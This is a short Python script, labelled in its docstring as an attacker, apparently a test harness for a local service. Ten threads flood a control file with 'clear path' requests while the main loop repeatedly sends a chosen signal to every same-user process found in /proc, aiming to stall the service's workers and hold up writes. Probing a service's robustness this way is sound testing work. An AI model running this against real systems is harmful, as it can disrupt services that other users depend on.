"""An attacker: starts tasks from ten threads, and sends SIGNAL to all of its workers, as fast as it can.

    python own_workers.py SIGNAL CONTROL TARGET

Each start whose worker is stopped takes as long as a write may. Prints ``held`` after the first such signal.
"""

from __future__ import annotations

import contextlib
import os
import signal
import sys
import threading


def start(control: str, spec: bytes) -> None:
    while True:
        with contextlib.suppress(OSError), open(control, "wb", buffering=0) as file:
            file.write(spec)


def workers() -> list[int]:
    """Their directories in /proc belong to root, because they are not dumpable; the files there show the user."""
    found = []
    for name in filter(str.isdecimal, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{name}/status") as file:
            if f"Uid:\t{os.getuid()}\t" in file.read() and int(name) != os.getpid():
                found.append(int(name))
    return found


def main() -> None:
    number, control, target = sys.argv[1:]
    for _ in range(10):
        threading.Thread(target=start, args=(control, f"clear path={target}".encode()), daemon=True).start()
    said = False
    while True:
        for pid in workers():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.Signals[number])
                if not said:
                    print("held", flush=True)
                    said = True


main()
